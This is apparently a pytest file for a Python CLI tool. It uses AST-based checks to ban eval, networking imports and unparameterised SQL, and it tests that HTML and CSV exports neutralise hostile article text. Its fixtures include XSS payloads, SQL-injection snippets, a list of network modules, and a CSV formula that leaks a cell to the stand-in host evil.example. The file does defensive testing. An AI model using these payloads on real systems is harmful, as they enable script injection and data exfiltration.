"""Issue 6, "nothing unsafe comes out": static checks over the package source, and the two
output formats a hostile article could attack (``show --html`` and ``--format csv``),
tested end to end through the CLI.

The static checks read the source with ``ast`` rather than grep so that comments,
docstrings and strings mentioning ``eval(`` or ``socket`` do not count, and each check
is itself tested on small snippets so that a broken checker cannot pass silently.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import sqlite3
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import ROOT
from typer.testing import CliRunner

from reetool.cli import app

SOURCES = sorted((ROOT / "reetool").rglob("*.py"))

NETWORK_MODULES = frozenset(
    {
        "socket",
        "ssl",
        "socketserver",
        "urllib.request",
        "http.client",
        "http.server",
        "ftplib",
        "smtplib",
        "poplib",
        "imaplib",
        "telnetlib",
        "xmlrpc.client",
        "xmlrpc.server",
        "requests",
        "httpx",
        "aiohttp",
        "urllib3",
        "websockets",
    }
)
SQL_METHODS = frozenset({"execute", "executemany", "executescript"})


# --------------------------------------------------------------------------- checkers


def _is_network(module: str) -> bool:
    return any(module == m or module.startswith(m + ".") for m in NETWORK_MODULES)


def _literal_tables(tree: ast.AST) -> list[str]:
    """String values of module-level literal tables (``_EXPORTS = {"Store": "reetool.store"}``)."""
    strings: list[str] = []
    for node in getattr(tree, "body", []):
        if isinstance(node, (ast.Assign, ast.AnnAssign)) and isinstance(
            node.value, (ast.Dict, ast.Tuple, ast.List, ast.Set)
        ):
            values = node.value.values if isinstance(node.value, ast.Dict) else node.value.elts
            strings += [v.value for v in values if isinstance(v, ast.Constant) and isinstance(v.value, str)]
    return strings


def network_imports(tree: ast.AST) -> list[str]:
    """Every import of a networking module, including ``from urllib import request``.

    A dynamic import of a computed name (lazy exports) is accepted only when the module
    holds a literal table of the names and none of them is a networking module.
    """
    found = []
    tables = _literal_tables(tree)
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            found += [f"line {node.lineno}: import {a.name}" for a in node.names if _is_network(a.name)]
        elif isinstance(node, ast.ImportFrom) and node.module and node.level == 0:
            for alias in node.names:
                if _is_network(node.module) or _is_network(f"{node.module}.{alias.name}"):
                    found.append(f"line {node.lineno}: from {node.module} import {alias.name}")
        elif isinstance(node, ast.Call) and _call_name(node) in ("__import__", "import_module"):
            arg = node.args[0] if node.args else None
            if not (isinstance(arg, ast.Constant) and isinstance(arg.value, str)):
                bad = [m for m in tables if _is_network(m)]
                if not tables or bad:
                    found.append(f"line {node.lineno}: dynamic import of a computed name {bad or ''}")
            elif _is_network(arg.value):
                found.append(f"line {node.lineno}: dynamic import of {arg.value}")
    return found


def _call_name(node: ast.Call) -> str:
    func = node.func
    if isinstance(func, ast.Name):
        return func.id
    if isinstance(func, ast.Attribute):
        return func.attr
    return ""


def eval_calls(tree: ast.AST) -> list[str]:
    """Calls of ``eval``/``exec``, bare or as ``builtins.eval``."""
    return [
        f"line {node.lineno}: {_call_name(node)}()"
        for node in ast.walk(tree)
        if isinstance(node, ast.Call)
        and _call_name(node) in ("eval", "exec")
        and (isinstance(node.func, ast.Name) or ast.unparse(node.func) in ("builtins.eval", "builtins.exec"))
    ]


class _SqlChecker:
    """Is the SQL text of every ``.execute()`` built from constants only?

    Allowed: string literals; module-level constants (assigned once, from literals or
    other constants); f-strings and ``+`` over those; ``int(CONSTANT)``; indexing a
    constant; a module function called with constant arguments; and a local variable
    whose every binding (``=`` or ``for``) is one of these. User data therefore can only
    reach SQL through ``?`` parameters.
    """

    SAFE_CALLS = frozenset({"int", "len", "str"})

    def __init__(self, tree: ast.Module) -> None:
        self.tree = tree
        self.functions = {n.name for n in tree.body if isinstance(n, (ast.FunctionDef, ast.AsyncFunctionDef))}
        counts: dict[str, int] = {}
        for node in ast.walk(tree):
            for target in _bound_names(node):
                counts[target] = counts.get(target, 0) + 1
        # Imported constants first: a module constant may be built from them.
        self.constants: set[str] = _imported_constants(tree)
        for node in tree.body:
            value = node.value if isinstance(node, (ast.Assign, ast.AnnAssign)) else None
            targets = node.targets if isinstance(node, ast.Assign) else [getattr(node, "target", None)]
            for target in targets:
                once = isinstance(target, ast.Name) and counts.get(target.id) == 1
                if once and value is not None and self.safe(value, None):
                    self.constants.add(target.id)  # type: ignore[union-attr]

    def safe(self, node: ast.expr, func: ast.AST | None, seen: frozenset[str] = frozenset()) -> bool:
        if isinstance(node, ast.Constant):
            return isinstance(node.value, (str, int, float, bool)) or node.value is None
        if isinstance(node, (ast.Tuple, ast.List)):
            return all(self.safe(e, func, seen) for e in node.elts)
        if isinstance(node, ast.JoinedStr):
            return all(
                self.safe(v.value, func, seen)
                if isinstance(v, ast.FormattedValue)
                else self.safe(v, func, seen)
                for v in node.values
            )
        if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
            return self.safe(node.left, func, seen) and self.safe(node.right, func, seen)
        if isinstance(node, ast.Subscript):
            return self.safe(node.value, func, seen)  # any element of a constant is constant
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and not node.keywords:
            known = node.func.id in self.SAFE_CALLS or node.func.id in self.functions
            return known and all(self.safe(a, func, seen) for a in node.args)
        if isinstance(node, ast.Name):
            if node.id in self.constants:
                return True
            if func is None:
                return False
            if node.id in seen:  # `sql = sql + " AND ..."`: constant if its other bindings are
                return True
            bindings = _bindings(func, node.id)
            return bool(bindings) and all(self.safe(b, func, seen | {node.id}) for b in bindings)
        return False

    def problems(self) -> list[str]:
        found = []
        for func in ast.walk(self.tree):
            if not isinstance(func, (ast.FunctionDef, ast.AsyncFunctionDef, ast.Lambda)):
                continue
            for node in ast.walk(func):
                if not (
                    isinstance(node, ast.Call)
                    and isinstance(node.func, ast.Attribute)
                    and node.func.attr in SQL_METHODS
                ):
                    continue
                if not node.args or not self.safe(node.args[0], func):
                    sql = ast.unparse(node.args[0]) if node.args else "<no argument>"
                    found.append(f"line {node.lineno}: SQL built from non-constants: {sql}")
        # Calls at module level: no function context, so only constants are allowed.
        for stmt in self.tree.body:
            if isinstance(stmt, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)):
                continue
            for node in ast.walk(stmt):
                is_sql = isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                if (
                    is_sql
                    and node.func.attr in SQL_METHODS
                    and not (node.args and self.safe(node.args[0], None))
                ):
                    found.append(f"line {node.lineno}: SQL built from non-constants at module level")
        return sorted(set(found))


def _imported_constants(tree: ast.Module) -> set[str]:
    """Names imported at module level from a reetool module where they are constants
    (``from reetool.store.rows import DOC_COLUMNS``), as they are named here."""
    out: set[str] = set()
    for node in tree.body:
        if not (isinstance(node, ast.ImportFrom) and (node.module or "").startswith("reetool.")):
            continue
        base = ROOT.joinpath(*str(node.module).split("."))
        source = base.with_suffix(".py") if base.with_suffix(".py").is_file() else base / "__init__.py"
        if source.is_file():
            theirs = _module_constants(source)
            out |= {a.asname or a.name for a in node.names if a.name in theirs}
    return out


_MODULE_CONSTANTS: dict[Path, set[str]] = {}


def _module_constants(path: Path) -> set[str]:
    """The constants of a module, once; a module met again while its own imports are
    being followed (an import cycle) counts as having none yet."""
    if path not in _MODULE_CONSTANTS:
        _MODULE_CONSTANTS[path] = set()
        _MODULE_CONSTANTS[path] = _SqlChecker(_parse(path)).constants
    return _MODULE_CONSTANTS[path]


def _bound_names(node: ast.AST) -> list[str]:
    if isinstance(node, ast.Assign):
        return [n.id for t in node.targets for n in ast.walk(t) if isinstance(n, ast.Name)]
    if isinstance(node, (ast.AnnAssign, ast.AugAssign, ast.For, ast.NamedExpr)):
        return [n.id for n in ast.walk(node.target) if isinstance(n, ast.Name)]
    return []


def _bindings(func: ast.AST, name: str) -> list[ast.expr]:
    """What ``name`` is bound to inside ``func``; an unknown kind of binding makes it unsafe."""
    out: list[ast.expr] = []
    unknown = [ast.Name(id="<unknown>")]  # never safe: not a constant, never bound
    for node in ast.walk(func):
        if isinstance(node, ast.arg) and node.arg == name:
            return unknown  # a parameter: whatever the caller passes
        if name not in _bound_names(node):
            continue
        if isinstance(node, ast.Assign) and all(isinstance(t, ast.Name) for t in node.targets):
            out.append(node.value)
        elif isinstance(node, ast.Assign) and (pair := _unpacked(node, name)) is not None:
            out.append(pair)
        elif isinstance(node, (ast.AnnAssign, ast.AugAssign, ast.NamedExpr)) and node.value is not None:
            if not isinstance(node.target, ast.Name):
                return unknown
            out.append(node.value)
        elif isinstance(node, ast.For) and isinstance(node.target, ast.Name):
            out.append(node.iter)
        else:  # unpacking, with-as, except-as...: too clever to follow, so not trusted
            return unknown
    return out


def _unpacked(node: ast.Assign, name: str) -> ast.expr | None:
    """``sql, args = sql + " AND x = ?", (...)``: the value matching ``name``, position by position."""
    if len(node.targets) != 1 or not isinstance(node.value, ast.Tuple):
        return None
    target = node.targets[0]
    if not isinstance(target, ast.Tuple) or len(target.elts) != len(node.value.elts):
        return None
    for elt, value in zip(target.elts, node.value.elts, strict=True):
        if isinstance(elt, ast.Name) and elt.id == name:
            return value
    return None


def sql_problems(tree: ast.Module) -> list[str]:
    return _SqlChecker(tree).problems()


def _parse(path: Path) -> ast.Module:
    return ast.parse(path.read_text(encoding="utf-8"), filename=str(path))


# --------------------------------------------------------------------------- the source


def test_sources_were_found() -> None:
    names = {p.name for p in SOURCES}
    assert {"emit.py", "files.py", "reader.py", "database.py", "schema.py", "cleaner.py"} <= names


@pytest.mark.parametrize("path", SOURCES, ids=lambda p: p.name)
def test_no_eval_or_exec(path: Path) -> None:
    assert eval_calls(_parse(path)) == []


@pytest.mark.parametrize("path", SOURCES, ids=lambda p: p.name)
def test_no_network_modules(path: Path) -> None:
    assert network_imports(_parse(path)) == []


@pytest.mark.parametrize("path", SOURCES, ids=lambda p: p.name)
def test_sql_only_with_parameters(path: Path) -> None:
    assert sql_problems(_parse(path)) == []


def environment_reads(tree: ast.Module) -> list[int]:
    """Lines that read the environment: ``os.environ``, ``os.getenv``, ``environ`` imported."""
    names = ("environ", "environb", "getenv")
    attributes = [n for n in ast.walk(tree) if isinstance(n, ast.Attribute) and n.attr in names]
    imported = [n for n in ast.walk(tree) if isinstance(n, ast.ImportFrom)]
    imports = [n for n in imported if any(a.name in names for a in n.names)]
    return sorted(n.lineno for n in [*attributes, *imports])


def test_only_settings_reads_the_environment() -> None:
    """Settings are resolved once, at the edge: every other module gets them passed down
    or asks :mod:`reetool.settings` (REETOOL_VOCAB was once read in two more places)."""
    readers = {str(p.relative_to(ROOT)): environment_reads(_parse(p)) for p in SOURCES}
    assert {p for p, lines in readers.items() if lines} == {"reetool/settings.py"}


def test_the_store_really_runs_sql() -> None:
    """Guards the check above against passing because it saw no SQL at all."""
    trees = [_parse(path) for path in sorted((ROOT / "reetool" / "store").glob("*.py"))]
    nodes = [n for tree in trees for n in ast.walk(tree)]
    calls = [n for n in nodes if isinstance(n, ast.Call) and _call_name(n) in SQL_METHODS]
    assert len(calls) >= 10


# --------------------------------------------------------------------------- the checkers


@pytest.mark.parametrize(
    "snippet",
    [
        "import socket",
        "import urllib.request as r",
        "from urllib import request",
        "from http.client import HTTPConnection",
        "import requests",
        "def f():\n    import httpx",
        "import aiohttp.web",
        "__import__('socket')",
        "import importlib\nimportlib.import_module(name)",
        "import importlib\nM = {'a': 'reetool.store', 'b': 'socket'}\nimportlib.import_module(M[x])",
    ],
)
def test_network_check_catches(snippet: str) -> None:
    assert network_imports(ast.parse(snippet))


def test_network_check_ignores_safe_modules_and_comments() -> None:
    code = "import urllib.parse\nfrom http import HTTPStatus\n# import socket\nx = 'import requests'\n"
    code += "import importlib\nM = {'a': 'reetool.store'}\nimportlib.import_module(M[x])\n"
    assert network_imports(ast.parse(code)) == []


def test_eval_check() -> None:
    assert eval_calls(ast.parse("eval(s)"))
    assert eval_calls(ast.parse("import builtins\nbuiltins.exec(code)"))
    assert eval_calls(ast.parse("# eval(s)\nx = 'exec(y)'\nre.compile('x')\nliteral_eval(s)")) == []


@pytest.mark.parametrize(
    "snippet",
    [
        "def f(c, x):\n    c.execute(f'SELECT * FROM t WHERE a = {x}')",
        "def f(c, x):\n    c.execute('SELECT * FROM t WHERE a = %s' % x)",
        "def f(c, x):\n    c.execute('SELECT * FROM t WHERE a = ' + x)",
        "def f(c, x):\n    c.execute('SELECT * FROM t WHERE a = {}'.format(x))",
        "def f(c):\n    q = input()\n    c.executemany(q, [])",
        "def f(c, q):\n    c.execute(q)",
        "def f(c, xs):\n    for q in xs:\n        c.execute(q)",
        "def f(c, x):\n    c.execute(f'SELECT {COLS} FROM t WHERE a = {x}')\nCOLS = 'a'",
        "COLS = 'a'\nCOLS = input()\ndef f(c):\n    c.execute(f'SELECT {COLS} FROM t')",
        "def f(c, x):\n    c.execute(f'PRAGMA user_version = {int(x)}')",
        "c.execute(sql)",
        "def f(c, x):\n    a, q = 1, x\n    q = 'SELECT 1'\n    c.execute(q)",
        "def f(c, x):\n    q, a = 'SELECT 1', 2\n    q, a = q + x, 3\n    c.execute(q)",
        "def f(c, x):\n    q, a = x\n    c.execute(q)",
        # a name imported from a reetool module where it is not a constant
        "from reetool.store.rows import document\ndef f(c):\n    c.execute(document)",
    ],
)
def test_sql_check_catches(snippet: str) -> None:
    assert sql_problems(ast.parse(snippet))


def test_sql_check_allows_constants_and_parameters() -> None:
    code = """
COLS = "a, b"
SCRIPTS = ("CREATE TABLE t (a); CREATE INDEX i ON t (a)",)
VERSION = len(SCRIPTS)

def parts(script):
    return [s for s in script.split(";")]

def f(c, x, rows):
    c.execute("SELECT a FROM t WHERE a = ?", (x,))
    c.execute(f"SELECT {COLS} FROM t WHERE b = ?", (x,))
    c.executemany("INSERT INTO t (a, b) VALUES (?, ?)", rows)
    c.execute(f"PRAGMA user_version = {int(VERSION)}")
    for n in range(3):
        for statement in parts(SCRIPTS[n]):
            c.execute(statement)
    sql, args = "SELECT a FROM t WHERE b = ?", (x,)
    if x:
        sql, args = sql + " AND a = ?", (*args, x)
    c.execute(sql + " LIMIT 1", args)
"""
    assert sql_problems(ast.parse(code)) == []


def test_sql_check_follows_constants_imported_from_reetool() -> None:
    code = "from reetool.store.rows import IS_COPY as C\ndef f(c):\n    c.execute(f'SELECT 1 WHERE {C}')"
    assert sql_problems(ast.parse(code)) == []


# --------------------------------------------------------------------------- outputs, end to end

XSS_SCRIPT = "<script>alert(1)</script>"
XSS_IMG = "<img src=x onerror=alert(1)>"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Lynas news")'
HOSTILE_POST = {
    "id": 99,
    "date": "2024-05-02T08:00:00",
    "link": "https://example.com/hostile",
    "title": {"rendered": FORMULA_TITLE},
    "content": {
        "rendered": (
            "<p>Lynas Rare Earths said on 2 May 2024 that neodymium output rose. "
            "The page quoted &lt;script&gt;alert(1)&lt;/script&gt; as text.</p>"
            "<p>It also quoted &lt;img src=x onerror=alert(1)&gt; in a caption.</p>"
            "<script>alert('real script')</script>"
        )
    },
}


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    d = tmp_path_factory.mktemp("unsafe")
    (d / "hostile.json").write_text(json.dumps(HOSTILE_POST), encoding="utf-8")
    db = d / "s.db"
    env = {"REETOOL_MAX_BYTES": None, "REETOOL_DB": None}
    result = CliRunner().invoke(
        app, ["extract", str(d / "hostile.json"), "--db", str(db), "-f", "jsonl"], env=env
    )
    assert result.exit_code == 0, result.stderr
    with sqlite3.connect(db) as conn:
        text = conn.execute("SELECT text FROM documents").fetchone()[0]
    # The payload really reached the store as text, so the tests below can fail.
    assert XSS_SCRIPT in text and XSS_IMG in text and "real script" not in text
    return db


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += [name for name, _ in attrs]


@pytest.mark.slow
def test_show_html_escapes_article_text(hostile_store: Path, tmp_path: Path) -> None:
    page = tmp_path / "page.html"
    doc = str(hostile_store.parent / "hostile.json")
    result = CliRunner().invoke(app, ["show", doc, "--db", str(hostile_store), "--html", str(page)])
    assert result.exit_code == 0, result.stderr
    html = page.read_text(encoding="utf-8")
    parser = _Tags()
    parser.feed(html)
    parser.close()
    assert "script" not in parser.tags and "img" not in parser.tags
    assert not [a for a in parser.attrs if a.lower().startswith("on")]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "neodymium" in html  # the article is there, just inert


@pytest.mark.slow
def test_csv_neutralises_formula_cells(hostile_store: Path) -> None:
    result = CliRunner().invoke(app, ["docs", "--db", str(hostile_store), "--format", "csv"])
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == 1
    assert rows[0]["title"] == "'" + FORMULA_TITLE
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
